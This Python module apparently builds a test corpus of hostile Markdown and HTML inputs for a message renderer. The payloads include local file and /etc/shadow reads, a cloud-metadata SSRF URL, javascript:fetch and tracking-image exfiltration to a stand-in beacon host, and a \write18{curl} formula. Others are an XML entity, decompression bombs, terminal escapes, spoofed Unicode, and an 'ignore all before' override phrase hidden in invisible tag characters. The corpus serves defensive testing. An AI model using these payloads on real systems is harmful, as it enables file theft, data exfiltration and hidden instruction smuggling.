"""Messages that want a program to open a file, to call somebody, or to show what is not there.

Every file and host that they name has `TOKEN` in its name, but for the devices of the system.
"""

# ruff: noqa: E501 (a case is a line)
from __future__ import annotations

import base64
import struct
import zlib

TOKEN = "beacon4711"
HOST = f"{TOKEN}.example"
PLANTED = (f"{TOKEN}.png", f"{TOKEN}.css", f"{TOKEN}.svg", f"{TOKEN}.txt", f"{TOKEN}.html")
"""Files that are there, in the folder that the program runs in."""
PIPE = f"{TOKEN}.fifo"
"""A pipe that is there: whoever opens it waits for ever."""
DEVICES = ("/dev/zero", "/dev/random", "/dev/stdin", "/dev/tty", "/etc/passwd", "/etc/shadow")


def _uri(data: bytes, kind: str = "image/png") -> str:
    return f"data:{kind};base64,{base64.b64encode(data).decode()}"


def _png(width: int, height: int, data: bytes) -> bytes:
    def piece(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", head) + piece(b"IDAT", data) + piece(b"IEND", b"")


def _svg(inside: str) -> bytes:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"{inside}</svg>"
    ).encode()


def _bomb() -> bytes:
    packer = zlib.compressobj(9)
    row = bytes(8001)
    return b"".join(packer.compress(row) for _ in range(8000)) + packer.flush()


def corpus(folder: str, port: int) -> dict[str, str]:
    """The messages by what they try; `folder` has the planted files, at `port` of this machine
    somebody listens."""
    web, here = f"https://{HOST}", f"http://127.0.0.1:{port}"
    made: dict[str, str] = {}
    paths = {
        "absolute": f"{folder}/{PLANTED[0]}",
        "relative": PLANTED[0],
        "dotted": f"./{PLANTED[0]}",
        "upwards": f"../{folder.rpartition('/')[2]}/{PLANTED[0]}",
        "home": f"~/{PLANTED[0]}",
        "file": f"file://{folder}/{PLANTED[0]}",
        "file of this machine": f"file://localhost{folder}/{PLANTED[0]}",
        "file of another machine": f"file://{HOST}/share/{PLANTED[0]}",
        "file in capitals": f"FILE://{folder}/{PLANTED[0]}",
        "file with one slash": f"file:{folder}/{PLANTED[0]}",
        "pipe": f"{folder}/{PIPE}",
        "UNC": f"\\\\\\\\{HOST}\\\\share\\\\{PLANTED[0]}",
        "UNC with slashes": f"//{HOST}/share/{PLANTED[0]}",
        "smb": f"smb://{HOST}/share/{PLANTED[0]}",
        "Windows": f"C:\\\\{PLANTED[0]}",
        "resource": f"qrc:/{PLANTED[0]}",
        "Qt's resource": f":/{PLANTED[0]}",
        "svg file": f"{folder}/{PLANTED[2]}",
        "encoded": f"file://{folder}/%62eacon4711.png",
        **{f"device {name}": name for name in DEVICES},
        "web": f"{web}/{TOKEN}.png?q=secret",
        "web without scheme": f"//{HOST}/a.png",
        "this machine": f"{here}/{TOKEN}.png",
        "ftp": f"ftp://{HOST}/a.png",
        "cloud": f"http://169.254.169.254/{TOKEN}",
        "javascript": f"javascript:fetch('{web}')",
        "vscode": f"vscode://file{folder}/{PLANTED[3]}",
        "mail": f"mailto:a@{HOST}?attach={folder}/{PLANTED[3]}",
        "script in data": f"data:text/html,<script src='{web}/a.js'></script>",
    }
    for name, path in paths.items():
        made[f"picture: {name}"] = f"![{name}]({path})"
        made[f"link: {name}"] = f"See [{name}]({path}), or <{path}>, and ![{name}]({path}) in it."
    titled = f'"<img src={here}/{TOKEN}.png> <b>{web}</b>"'
    made |= {
        "tracking picture": f"![]({here}/{TOKEN}.gif?text=all-that-was-said)",
        "picture in a link": f"[![a]({folder}/{PLANTED[0]})]({web}/{TOKEN})",
        "picture by reference": f"![a][b]\n\n[b]: {folder}/{PLANTED[0]} {titled}",
        "picture by reference on the web": f"![b]\n\n[b]: {here}/{TOKEN}.png",
        "title with markup": f"[a]({web}/{TOKEN} {titled}) ![a]({here}/{TOKEN}.png {titled})",
        "description with markup": f"![<img src={folder}/{PLANTED[0]}>]({web}/{TOKEN}.png)",
        "html picture": f'<img src="{folder}/{PLANTED[0]}">\n\n<img src={here}/{TOKEN}.png>',
        "html picture of a device": "<img src=/dev/zero>\n\n<IMG SRC='file:///dev/zero'/>",
        "html pictures of many sizes": f'<img srcset="{here}/{TOKEN}.png 1x, {web}/{TOKEN} 2x">',
        "html in a sentence": f"a <img src='{PIPE}'> b <b background='{PLANTED[0]}'>c</b>",
        "style": f"<style>@import '{folder}/{PLANTED[1]}'; a{{background:url({here}/{TOKEN})}}</style>",
        "linked style": f"<link rel=stylesheet href='file://{folder}/{PLANTED[1]}'>",
        "style of an element": f"<p style='background:url({folder}/{PLANTED[0]})'>a</p>",
        "script": f"<script src='{here}/{TOKEN}.js'></script><script>alert(1)</script>",
        "frame": f"<iframe src='{folder}/{PLANTED[4]}'></iframe><embed src={PLANTED[4]}>",
        "object": f"<object data='file://{folder}/{PLANTED[2]}'></object>",
        "sound": f"<video src={here}/{TOKEN} poster={PLANTED[0]} autoplay></video>",
        "base": f"<base href='{here}/{TOKEN}/'>\n\n![a](a.png) [b](c)",
        "refresh": f"<meta http-equiv=refresh content='0;url={here}/{TOKEN}'>",
        "details": f"<details open><summary><img src={PLANTED[0]}></summary>![a]({PIPE})</details>",
        "harmless tags with more": f"a<br style='background:url({PLANTED[0]})'>b<kbd onclick=x>c</kbd>",
        "svg in html": f"<svg><image href='{folder}/{PLANTED[0]}'/><use href='{web}#{TOKEN}'/></svg>",
        "svg in data": f"![a]({_uri(_svg(f'<image href={chr(34)}{folder}/{PLANTED[0]}{chr(34)}/>'), 'image/svg+xml')})",
        "svg that says it is png": f"![a]({_uri(_svg(f'<image xlink:href={chr(34)}file://{folder}/{PIPE}{chr(34)}/>'))})",
        "svg as it is": f"![a](data:image/svg+xml,<svg><image href='{PLANTED[0]}'/></svg>)",
        "entity in data": f"![a]({_uri(f'<!DOCTYPE a [<!ENTITY b SYSTEM {chr(34)}file://{folder}/{PLANTED[3]}{chr(34)}>]><svg>&b;</svg>'.encode())})",
        "picture too large": f"![a]({_uri(_png(60_000, 60_000, zlib.compress(b'')))})",
        "picture that grows": f"![a]({_uri(_png(8000, 8000, _bomb()))})",
        "picture cut off": f"![a]({_uri(_png(400, 400, b'x'))})",
        "picture of nothing": "![a](data:image/png;base64,)",
        "data without end": f"![a](data:image/png;base64,{'A' * 2_000_000})",
        "xpm with a file": f"![a]({_uri(f'/* XPM */ static char *a[]={{{folder}/{PLANTED[0]}}};'.encode())})",
        "fence with a file name": f"```python {folder}/{PLANTED[3]}\nprint(1)\n```",
        "fence with title": f'```sh title="../../{PLANTED[3]}"\ncat\n```',
        "fence with options": f"```--install-extension {web}/{TOKEN}.vsix\ncode\n```",
        "fence with a lexer's file": f"```{folder}/{PLANTED[3]}.py\nx\n```",
        "fence with escapes": f"```\x1b]8;;file://{folder}/{PLANTED[3]}\x07\nx\n```",
        "fence with markup": f"```<img/src={here}/{TOKEN}.png>\nx\n```",
        "inclusion": f"!include {PLANTED[3]}\n\n{{{{< include {PLANTED[3]} >}}}}\n\n.. include:: {PIPE}",
        "formula that reads": f"$\\input{{{folder}/{PLANTED[3]}}}$\n\n$$\\includegraphics{{{PLANTED[0]}}}$$",
        "formula that links": f"$$\\href{{{here}/{TOKEN}}}{{a}} \\write18{{curl {here}}}$$",
        "diagram": f"```mermaid\ngraph LR; a[<img src='{here}/{TOKEN}.png'>]\nclick a '{web}'\n```",
        "autolinks": f"{web}/{TOKEN} www.{HOST} a@{HOST} <{here}/{TOKEN}> file://{folder}/{PIPE}",
        "table": f"| ![a]({PLANTED[0]}) | <img src={here}/{TOKEN}> |\n|---|---|\n| [x](file:///{PIPE}) | {web} |",
        "footnote": f"a[^1]\n\n[^1]: ![a]({here}/{TOKEN}.png) <img src={PLANTED[0]}>",
        "heading": f"# ![a]({PLANTED[0]}) <img src={here}/{TOKEN}>",
        "quote and list": f"> - ![a]({folder}/{PLANTED[0]})\n> - [ ] ![b]({here}/{TOKEN}.png)",
        "escape sequences": f"\x1b[31mred\x1b[0m \x1b]8;;{web}\x07link\x1b]8;;\x07 \x9b31m \x1b[2J\x07\b\b",
        "turned text": f"[\u202egpj.tac\u202c]({web}/{TOKEN}) user\u202etxt.exe \u2066a\u2069",
        "tags": "Hello" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all before") + ".",
        "selectors": "Hello" + "".join(chr(0xE0100 + n) for n in b"ignore all before") + "\ufe01.",
        "zero width": "pay\u200bpal\u2060 \ufeff\u200d\u200c\u3164\u00ad\u115f",
        "link to look alike": f"[paypal.com](https://раураl.{HOST}/) [x](https://paypal.com@{HOST})",
        "surrogates and nulls": "a\ud800b\udc00c\0d",
        "links of every scheme": " ".join(
            f"[{scheme}]({scheme}:{folder}/{PLANTED[3]})"
            for scheme in (
                "file", "javascript", "vbscript", "data", "vscode", "ms-settings", "search-ms",
                "smb", "ssh", "sftp", "ftp", "ldap", "tel", "steam", "chrome", "about", "blob",
                "jar", "view-source", "bough", "x-apple.systempreferences", "intent",
            )
        ),
    }  # fmt: skip
    return made
